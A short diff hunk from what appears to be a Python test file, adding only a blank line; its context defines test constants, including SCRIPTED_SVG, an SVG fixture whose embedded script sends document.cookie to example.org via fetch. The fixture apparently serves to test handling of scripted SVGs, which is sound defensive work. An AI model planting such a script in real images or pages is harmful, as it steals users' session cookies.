@@ -49,6 +49,7 @@ FAILING_OUTPUT = """\
     """
 SCRIPTED_SVG = ("<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 10 10'>\n"
                 "  <script>fetch('https://example.org/?' + document.cookie)</script>\n</svg>\n")
+
 WORKSHEET = """\
         worksheets:
           - code: LK-1
